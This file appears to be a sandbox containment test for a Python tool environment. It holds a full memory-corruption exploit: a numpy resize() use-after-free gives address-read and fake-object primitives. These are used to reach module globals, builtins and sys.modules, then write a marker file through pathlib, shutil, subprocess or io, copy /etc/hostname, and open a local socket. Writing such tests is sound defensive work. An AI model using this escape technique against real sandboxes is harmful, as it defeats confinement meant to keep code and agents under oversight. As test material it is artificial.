# class: file_or_process
# expect: contained
# attack: walks from a tool stand-in's module globals (resize() use-after-free) to already imported modules (socket, subprocess, shutil, pathlib) and writes MARK through whichever is there, without calling open directly
keep = []


def aliased_pair(n):
    # an int64 view left on a block that resize() freed, then an object array allocated into that block
    for attempt in range(60):
        source = np.zeros(n)
        owner = np.zeros(n, dtype=np.int64)
        ints = owner[:]
        owner.resize(n * 16, refcheck=False)
        owner[0] = 12345
        keep.append(owner)
        if ints[0] == 12345:
            continue
        marker = (1, 2)
        objects = source.astype("O")
        for i in range(n):
            objects[i] = marker
        keep.append(objects)
        first = int(ints[0])
        if first != 0 and all(int(ints[i]) == first for i in range(n)):
            return ints, objects
    raise RuntimeError("the freed block was not reused")


ints, objects = aliased_pair(256)


def address_of(thing):
    objects[1] = thing
    return int(ints[1])


def object_at(address):
    ints[2] = address
    found = objects[2]
    ints[2] = 0
    return found


def packed(values):
    text = ""
    for value in values:
        for k in range(8):
            text += chr((value >> (8 * k)) & 255)
    return text.encode("latin-1")


def pointer_field(thing, offset):
    # a list laid out by hand in a bytes object: refcount, type, size, items pointer, allocated
    fake = packed([1 << 40, address_of(list), 1, address_of(thing) + offset, 1])
    keep.append(fake)
    return object_at(address_of(fake) + 32)[0]


def real_builtins():
    for function in (Pose.copy, get_object_name_list, print):
        candidate = pointer_field(function, 24)  # PyFunctionObject.func_builtins
        if isinstance(candidate, dict) and "__import__" in candidate:
            return candidate
    raise RuntimeError("no builtins found")


def tool_module_globals():
    return pointer_field(get_object_name_list, 16)  # PyFunctionObject.func_globals of a tool stand-in


module_globals = tool_module_globals()
sys_module = module_globals.get("sys") or real_builtins()["__import__"]("sys")
loaded = sys_module.modules
print("loaded:", len(loaded))
for name in ("pathlib", "shutil", "subprocess", "socket", "io"):
    module = loaded.get(name)
    if module is None:
        continue
    try:
        if name == "pathlib":
            module.Path("MARK").write_text("x")
        elif name == "shutil":
            module.copyfile("/etc/hostname", "MARK")
        elif name == "subprocess":
            module.Popen(["touch", "MARK"]).wait()
        elif name == "socket":
            module.socket().connect(("127.0.0.1", 22))
        elif name == "io":
            module.FileIO("MARK", "w").close()
        print("used", name)
    except Exception as exc:
        print(name, "refused:", exc)
